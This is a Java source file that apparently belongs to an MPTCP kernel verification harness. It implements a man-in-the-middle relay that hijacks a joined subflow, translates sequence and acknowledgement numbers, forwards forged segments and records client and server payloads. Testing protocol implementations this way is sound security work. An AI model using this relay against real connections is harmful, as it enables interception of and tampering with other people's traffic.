package org.mptcpverify.kernel;

import java.io.IOException;
import java.net.InetAddress;
import java.util.List;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * The attacker in the middle of a subflow: segments the client sends on its subflow to the
 * attacker (leg C) go out on the attacker's own joined subflow to the server (leg S) and back.
 * Only the TCP sequence and acknowledgement numbers are translated; MPTCP options other than
 * MP_JOIN pass unchanged (DSS mappings use relative subflow sequence numbers and data-level
 * numbers that are end to end, so they stay valid). Neither leg negotiated timestamps, SACK or
 * window scaling, so plain TCP options are dropped.
 */
final class Relay implements AutoCloseable {
    /** One leg: the kernel's endpoint and ISN, the attacker's endpoint and ISN. */
    record Leg(InetAddress host, int hostPort, long hostIsn, byte[] hostMac, int attackerPort, long attackerIsn) {}

    private final Wiretap tap;
    private final Leg c;
    private final Leg s;
    private final Thread thread;
    private volatile boolean stopped;
    private long clientBytes;
    private final java.io.ByteArrayOutputStream clientPayload = new java.io.ByteArrayOutputStream();
    private final java.io.ByteArrayOutputStream serverPayload = new java.io.ByteArrayOutputStream();
    private int relayed;

    Relay(Wiretap tap, Leg client, Leg server, int fromMark) {
        this.tap = tap;
        this.c = client;
        this.s = server;
        this.thread = new Thread(() -> loop(fromMark), "relay");
        this.thread.setDaemon(true);
        this.thread.start();
    }

    private void loop(int from) {
        int next = from;
        while (!stopped) {
            var seen = tap.await(next, t -> true, 100);
            if (seen.isEmpty()) {
                continue;
            }
            next = seen.get().index() + 1;
            TcpSegment t = seen.get().segment();
            try {
                if (on(t, c)) {
                    forward(t, c, s);
                    synchronized (this) {
                        clientBytes += t.payload().length();
                        clientPayload.writeBytes(t.payload().toArray());
                    }
                } else if (on(t, s)) {
                    forward(t, s, c);
                    synchronized (this) {
                        serverPayload.writeBytes(t.payload().toArray());
                    }
                }
            } catch (IOException e) {
                System.err.println("relay: " + e.getMessage());
            }
        }
    }

    /** A segment the kernel endpoint of {@code leg} sent to the attacker, after the handshake. */
    private static boolean on(TcpSegment t, Leg leg) {
        return t.src().equals(leg.host) && t.srcPort() == leg.hostPort && t.dst().equals(Topology.FORGED)
                && t.dstPort() == leg.attackerPort && !t.has(TcpSegment.SYN)
                && CapturedConnection.option(t, MptcpOption.MpJoinAck.class).isEmpty();
    }

    private void forward(TcpSegment t, Leg in, Leg out) throws IOException {
        long seq = (out.attackerIsn + (t.seq() - in.hostIsn)) & 0xffffffffL;
        long ack = t.has(TcpSegment.ACK) ? (out.hostIsn + (t.ack() - in.attackerIsn)) & 0xffffffffL : 0;
        List<TcpSegment.TcpOption> opts = t.options().stream()
                .filter(o -> o instanceof TcpSegment.TcpOption.Mptcp m
                        && m.option().subtype() != MptcpOption.SUBTYPE_MP_JOIN).toList();
        tap.send(out.hostMac, new TcpSegment(Topology.FORGED, out.host, out.attackerPort, out.hostPort, seq, ack,
                t.flags(), t.window(), opts, t.payload()));
        synchronized (this) {
            relayed++;
        }
    }

    synchronized long clientBytes() {
        return clientBytes;
    }

    synchronized byte[] clientPayload() {
        return clientPayload.toByteArray();
    }

    synchronized byte[] serverPayload() {
        return serverPayload.toByteArray();
    }

    synchronized int relayed() {
        return relayed;
    }

    @Override
    public void close() {
        stopped = true;
        try {
            thread.join(1_000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
